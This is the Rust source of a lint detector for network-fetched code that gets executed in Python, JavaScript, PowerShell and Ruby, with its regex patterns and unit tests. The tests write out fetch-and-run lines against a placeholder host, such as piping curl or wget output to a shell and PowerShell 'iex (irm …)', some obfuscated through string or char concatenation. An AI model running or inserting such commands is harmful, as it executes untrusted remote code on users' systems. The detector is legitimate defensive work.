//! Code fetched from the network and run, in Python, JavaScript/TypeScript, PowerShell and Ruby: each
//! statement is folded first ([`super::fold`]), so that `getattr(os, "sy"+"stem")`,
//! `require("child_"+"process")["exec"+"Sync"]` and `& ([char]105+[char]101+[char]120)` read as
//! the calls they are; names assigned from a download (`r = urlopen(u)`, `const t = await
//! fetch(u)`, `$s = irm $u`) carry it through later assignments; a statement that runs code
//! (`exec`, `eval`, `new Function`, `execSync`, `iex`, a script block) and holds a download or a
//! name carrying one is a flow, and so is one whose shell command string (`os.system("…")`,
//! `execSync('…')`, `subprocess.run("…", shell=True)`) the shell engine finds a flow in.
//!
//! Invariant: a bounded number of passes over the statements of a unit (constants, then
//! downloads to a fixed point of at most [`PASSES`], then sinks), each statement folded once.

use crate::lint::exec::ascii_regex;
use std::collections::HashMap;
use std::sync::LazyLock;

use crate::lint::rx::Regex;

use super::lex::{self, Lang};
use super::{fold, shell};

/// Propagation passes over a unit's assignments.
const PASSES: usize = 3;

/// A download that runs.
#[derive(Debug, Clone)]
pub struct Flow {
    /// Offset in the unit of the statement that runs it.
    pub at: usize,
    /// Where it came from (`""`: an address the text does not spell out).
    pub urls: Vec<String>,
    pub sink: String,
}

static FETCH: LazyLock<Regex> = LazyLock::new(|| {
    crate::lint::exec::ascii_regex(
        r#"\b(urlopen|urlretrieve|requests\.(get|post|request)|httpx\.(get|post|request)|http\.client|aiohttp|fetch|axios(\.get)?|https?\.get|got|undici\.request|require\(\s*['"](node:)?https?['"]\s*\)\s*\.\s*(get|request)|Net::HTTP\.(get|get_response|start)|URI\.open|HTTParty\.(get|post)|Faraday\.(get|post)|RestClient\.(get|post)|Excon\.get)\s*[(.]|\.(get|request)\s*\(\s*['"`]https?://"#,
    )
});

/// A `data` handler that adds each chunk to a name: `.on('data', d => s += d)`,
/// `.on("data", function (chunk) { body += chunk; })`.
static DATA_SUM: LazyLock<Regex> = LazyLock::new(|| {
    crate::lint::exec::ascii_regex(
        r#"\.on\(\s*(['"])data['"]\s*,\s*(?:async\s+)?(?:function\s*)?\(?\s*(\w+)\s*\)?\s*(?:=>)?\s*\{?\s*(\w+)\s*\+=\s*(\w+)"#,
    )
});

/// PowerShell's downloads, its aliases of `curl` and `wget` included.
static FETCH_PS: LazyLock<Regex> = LazyLock::new(|| {
    crate::lint::exec::ascii_regex(
        r"(?i)\b(iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|downloaddata|net\.webclient|curl|wget|start-bitstransfer)\b",
    )
});

fn fetches(code: &str, lang: Lang) -> bool {
    if lang == Lang::PowerShell {
        FETCH_PS.is_match(code)
    } else {
        FETCH.is_match(code)
    }
}

/// What runs code given as text, per language.
static EXEC: LazyLock<Regex> = LazyLock::new(|| {
    crate::lint::exec::ascii_regex(
        r"(?x)\b(exec|eval|execfile|runpy\.run_\w+|os\.system|os\.popen|os\.exec\w+|subprocess\.\w+|commands\.getoutput|pty\.spawn
        |instance_eval|class_eval|module_eval|Kernel\.eval
        |new\s+Function|Function|execSync|execFileSync|spawnSync|spawn|execFile|vm\.runIn\w+|vm\.Script|child_process\.\w+|Deno\.run|Bun\.spawn|Bun\.\$
        |(?i:iex|invoke-expression|start-process|invoke-item))\b\s*[\s(.`),]",
    )
});

/// Calls whose string argument is a shell command line.
static SHELL_STRING: LazyLock<Regex> = LazyLock::new(|| {
    crate::lint::exec::ascii_regex(
        r"\b(os\.system|os\.popen|subprocess\.\w+|commands\.getoutput|execSync|exec|spawnSync|spawn|child_process\.\w+|Bun\.\$|(?i:start-process|cmd\s*/c|bash\s+-c|sh\s+-c))\b",
    )
});

static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(
        r"^\s*(?:export\s+)?(?:const|let|var|global|local|\[[\w.]+\])?\s*\$?([A-Za-z_][\w]*)\s*(?::\s*[\w\[\]<>|]+\s*)?=[^=>]",
    )
});

static WITH_AS: LazyLock<Regex> = LazyLock::new(|| ascii_regex(r"\bas\s+([A-Za-z_]\w*)\s*:"));

static URL: LazyLock<Regex> = LazyLock::new(|| ascii_regex(r#"\bhttps?://[^\s'"`)\]>|]+"#));

static CONST: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"^\s*(?:const|let|var)?\s*\$?([A-Za-z_][\w]*)\s*=\s*"([^"]*)"\s*;?\s*$"#)
});

fn names(code: &str) -> impl Iterator<Item = &str> {
    code.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty())
}

/// `re.exec(text)`, `pattern.spawn` and the like: a method of some object that is not a child
/// process module runs nothing.
fn method_of_data(code: &str, at: usize, sink: &str) -> bool {
    let name = sink.trim_end_matches(['(', ' ', '.', '`']).trim();
    if !matches!(name, "exec" | "spawn" | "execFile" | "eval") {
        return false;
    }
    let before = code[..at].trim_end();
    let Some(receiver) = before.strip_suffix('.') else {
        return false;
    };
    let receiver = receiver
        .rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ')' || c == '('))
        .next()
        .unwrap_or("");
    !(receiver.ends_with("child_process")
        || receiver.ends_with("childProcess")
        || receiver == "cp"
        || receiver.ends_with(')'))
}

/// The flows of one unit of `lang` code.
pub fn flows(text: &str, lang: Lang) -> Vec<Flow> {
    if lang == Lang::Shell {
        return Vec::new();
    }
    let toks = lex::tokens(text, lang);
    let statements = lex::statements(text, &toks, lang);
    // Statements' code without comments.
    let codes: Vec<(usize, String)> = statements
        .iter()
        .filter_map(|s| {
            let first = toks.get(s.first)?;
            let mut code = String::new();
            let mut last = first.start;
            for t in &toks[s.first..s.last] {
                if t.kind == lex::Kind::Comment {
                    code.push_str(&text[last..t.start]);
                    last = t.end;
                }
            }
            let end = toks
                .get(s.last.saturating_sub(1))
                .map_or(first.start, |t| t.end);
            code.push_str(&text[last.min(end)..end]);
            (code.len() <= 1 << 16).then_some((first.start, code))
        })
        .collect();
    let mut consts: HashMap<String, String> = HashMap::new();
    let mut folded: Vec<(usize, String)> = Vec::with_capacity(codes.len());
    for (at, code) in &codes {
        let f = fold::fold(code, lang, &consts);
        if let Some(c) = CONST.captures(&f)
            && consts.len() < 1024
        {
            consts.insert(c[1].to_owned(), c[2].to_owned());
        }
        folded.push((*at, f));
    }
    // Names holding a download, with its addresses.
    let mut remote: HashMap<String, Vec<String>> = HashMap::new();
    for _ in 0..PASSES {
        let before = remote.len();
        for (_, code) in &folded {
            let assigned = ASSIGN
                .captures(code)
                .or_else(|| WITH_AS.captures(code))
                .map(|c| c[1].to_owned());
            let Some(name) = assigned else { continue };
            if remote.contains_key(&name) {
                continue;
            }
            let from_fetch = fetches(code, lang);
            let from_name = names(code)
                .filter(|w| *w != name)
                .find_map(|w| remote.get(w).cloned());
            if from_fetch || from_name.is_some() {
                let mut urls: Vec<String> =
                    URL.find_iter(code).map(|m| m.as_str().to_owned()).collect();
                urls.extend(from_name.unwrap_or_default());
                if urls.is_empty() {
                    urls.push(String::new());
                }
                urls.truncate(8);
                remote.insert(name, urls);
            }
        }
        if remote.len() == before || remote.len() > 4096 {
            break;
        }
    }
    // Node's way to read a response: chunks added up in a `data` handler
    // (`r.on('data', d => s += d)`); the sum holds the download.
    if lang == Lang::Js
        && folded.iter().any(|(_, code)| fetches(code, lang))
        && text.contains("data")
    {
        let urls: Vec<String> = URL
            .find_iter(text)
            .map(|m| m.as_str().to_owned())
            .take(8)
            .collect();
        for c in DATA_SUM.captures_iter(text).take(64) {
            let name = c[3].to_owned();
            if c[2] == c[4] && !remote.contains_key(&name) {
                remote.insert(name, urls.clone());
            }
        }
    }
    let mut out = Vec::new();
    for (at, code) in &folded {
        if out.len() >= 64 {
            break;
        }
        let Some(sink) = EXEC
            .find_iter(code)
            .find(|m| !method_of_data(code, m.start(), m.as_str()))
        else {
            continue;
        };
        let assigned = ASSIGN.captures(code).map(|c| c[1].to_owned());
        let after_sink = &code[sink.start()..];
        let mut urls: Option<Vec<String>> = None;
        if fetches(code, lang) {
            let mut found: Vec<String> =
                URL.find_iter(code).map(|m| m.as_str().to_owned()).collect();
            if found.is_empty() {
                found.push(String::new());
            }
            urls = Some(found);
        } else if let Some(carried) = names(after_sink)
            .filter(|w| Some(*w) != assigned.as_deref())
            .find_map(|w| remote.get(w))
        {
            urls = Some(carried.clone());
        }
        if let Some(urls) = urls {
            out.push(Flow {
                at: *at,
                urls,
                sink: format!(
                    "`{}` runs it",
                    sink.as_str().trim_end_matches(['(', ' ', '.', '`']).trim()
                ),
            });
            continue;
        }
        // A shell command line given as a string.
        if SHELL_STRING.is_match(code) {
            let strings = code.split('"').skip(1).step_by(2);
            for s in strings {
                if s.len() < 8 {
                    continue;
                }
                let found = shell::flows([(s, 0)]);
                if let Some(flow) = found.into_iter().find(|f| f.taint.is_remote()) {
                    out.push(Flow {
                        at: *at,
                        urls: if flow.taint.raw {
                            vec![String::new()]
                        } else {
                            flow.taint.urls
                        },
                        sink: format!("a shell command line: {}", flow.sink),
                    });
                    break;
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs(code: &str, lang: Lang) -> bool {
        !flows(code, lang).is_empty()
    }

    #[test]
    fn downloads_run_in_other_languages() {
        for (code, lang) in [
            ("exec(urlopen('https://x.example/p').read())", Lang::Python),
            (
                "import requests\nsrc = requests.get(U).text\ncode = src.strip()\nexec(code)",
                Lang::Python,
            ),
            (
                "with urllib.request.urlopen(u) as r:\n    exec(r.read())",
                Lang::Python,
            ),
            (
                "getattr(os, \"sy\"+\"stem\")(\"curl -s https://x.example/a | sh\")",
                Lang::Python,
            ),
            (
                "os.system('curl -s https://x.example/a | sh')",
                Lang::Python,
            ),
            (
                "fetch('https://x.example/a').then(r => r.text()).then(execSync)",
                Lang::Js,
            ),
            (
                "const t = await (await fetch(U)).text();\neval(t);",
                Lang::Js,
            ),
            (
                "const cp = require('child_' + 'process');\ncp['exec' + 'Sync']('wget -qO- https://x.example/a | bash')",
                Lang::Js,
            ),
            (
                "$s = irm https://x.example/a.ps1\n& ([char]105+[char]101+[char]120) $s",
                Lang::PowerShell,
            ),
            (
                "$c = (New-Object Net.WebClient).DownloadString($u)\n[scriptblock]::Create($c).Invoke()",
                Lang::PowerShell,
            ),
            ("iex (irm https://x.example/a)", Lang::PowerShell),
            (
                "def load\n  body = Net::HTTP.get(URI(SRC))\n  eval(body, TOPLEVEL_BINDING)\nend",
                Lang::Ruby,
            ),
        ] {
            assert!(runs(code, lang), "missed: {code}");
        }
    }

    #[test]
    fn downloads_that_stay_data() {
        for (code, lang) in [
            ("r = requests.get(U)\nprint(r.json())", Lang::Python),
            ("subprocess.run(['git', 'status'])", Lang::Python),
            (
                "const r = await fetch(U);\nconst j = await r.json();\nconsole.log(j);",
                Lang::Js,
            ),
            ("execSync('npm run build')", Lang::Js),
            (
                "$r = irm https://api.github.com/repos/o/r\nWrite-Host $r.name",
                Lang::PowerShell,
            ),
        ] {
            assert!(
                !runs(code, lang),
                "flagged: {code}: {:?}",
                flows(code, lang)
            );
        }
    }
}
